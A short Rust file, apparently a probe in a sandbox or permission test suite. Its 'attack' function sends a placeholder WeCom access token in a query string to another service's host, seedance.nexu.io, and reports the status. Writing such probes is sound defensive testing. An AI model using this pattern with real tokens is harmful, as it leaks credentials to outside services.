//! Asks for the app's token of WeCom in the query of another service.

use crate::wasi::Ask;
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let path = "/libtv/v1/session/x?access_token=placeholder-wecom-token";
    let answer = Ask::at("seedance.nexu.io", path).send()?;
    Ok(got(format!("status {}", answer.status())))
}
